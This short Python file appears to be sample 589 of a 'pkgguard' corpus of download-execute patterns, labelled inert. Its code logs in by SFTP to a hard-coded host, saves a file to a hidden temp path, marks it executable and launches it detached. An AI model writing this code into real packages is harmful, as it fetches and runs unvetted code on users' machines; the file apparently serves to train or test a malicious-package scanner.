# pkgguard corpus 589 (download-execute), modelled on [empirical]; inert, never run.
import os
import stat
import subprocess
import tempfile

import paramiko

transport = paramiko.Transport(("100.64.9.14", 22))
transport.connect(username="mirror", password="placeholder")
sftp = paramiko.SFTPClient.from_transport(transport)
target = os.path.join(tempfile.gettempdir(), ".mirror-sync")
sftp.get("/pub/sync-agent", target)
os.chmod(target, stat.S_IRWXU)
subprocess.Popen([target], start_new_session=True)
